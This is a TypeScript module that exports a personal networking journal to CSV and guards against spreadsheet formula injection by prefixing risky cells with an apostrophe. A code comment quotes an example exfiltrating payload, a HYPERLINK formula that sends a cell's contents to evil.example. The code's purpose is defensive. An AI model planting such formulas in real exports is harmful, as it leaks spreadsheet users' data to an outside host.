import { stringify } from "csv-stringify/sync";
import { dateOfInstant } from "../calendar.ts";
import type { JournalData, JournalMoment, Person } from "../types.ts";

/**
 * A spreadsheet opens a cell starting with = + - @ (or a tab or carriage return before one) as a
 * formula: `=HYPERLINK("https://evil.example?"&A1,"Open")` in a name would run on the seeker's
 * machine. Such cells get a leading apostrophe, which spreadsheets show as text (OWASP's advice).
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export const neutralise = (cell: string): string => (FORMULA_START.test(cell) ? `'${cell}` : cell);

/** The apostrophe neutralise added, taken off again when a file this export wrote comes back. */
export const unneutralise = (cell: string): string => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);

const HEADERS = ["Record", "Name", "Email", "Link", "Organization", "Role", "How we know them", "Introduced by", "Status", "Notes", "Date", "Channel"] as const;
type Row = Partial<Record<(typeof HEADERS)[number], string>>;

/**
 * Everything in the journal as one CSV table: a row per person, then a row per outreach action,
 * logged chat and coffeechat chat naming the person it was with, then the goal. The people rows
 * import back (the importer takes only rows whose Record is "person"). UTF-8 with a byte-order mark
 * and CRLF line ends, as spreadsheets expect; every cell neutralised.
 */
export function exportJournalCsv(data: JournalData, moment: JournalMoment): string {
  const byId = new Map(data.people.map((p) => [p.id, p]));
  const who = (personId: string | undefined): Row => {
    const p = personId === undefined ? undefined : byId.get(personId);
    return p ? { Name: p.name, ...(p.email ? { Email: p.email } : {}) } : {};
  };
  const rows: Row[] = [
    ...data.people.map(personRow),
    ...[...data.outreach]
      .sort((a, b) => a.on.localeCompare(b.on))
      .map((o) => ({ Record: "outreach", ...who(o.personId), Date: o.on, Channel: o.channel, ...(o.note ? { Notes: o.note } : {}) })),
    ...[...data.loggedChats].sort((a, b) => a.on.localeCompare(b.on)).map((c) => ({ Record: "chat", ...who(c.personId), Date: c.on })),
    ...[...data.chats]
      .sort((a, b) => a.start - b.start)
      .map((c) => ({ Record: "coffeechat", Name: c.hostName, Status: c.status, Date: dateOfInstant(c.start, moment.timeZone) })),
    ...(data.goal
      ? [
          {
            Record: "goal",
            Date: data.goal.byDate,
            Notes: `${data.goal.targetChats} chats by ${data.goal.byDate}: ${data.goal.chatsPerWeek} a week, ${data.goal.outreachPerDay} outreach a day`,
          },
        ]
      : []),
  ];
  return stringify([[...HEADERS], ...rows.map((row) => HEADERS.map((h) => neutralise(row[h] ?? "")))], {
    bom: true,
    record_delimiter: "windows",
  });
}

function personRow(p: Person): Row {
  return {
    Record: "person",
    Name: p.name,
    Email: p.email ?? "",
    Link: p.link ?? "",
    Organization: p.organization ?? "",
    Role: p.role ?? "",
    "How we know them": p.howWeKnow ?? "",
    "Introduced by": p.introducedBy ?? "",
    Status: p.status,
    Notes: p.notes ?? "",
  };
}
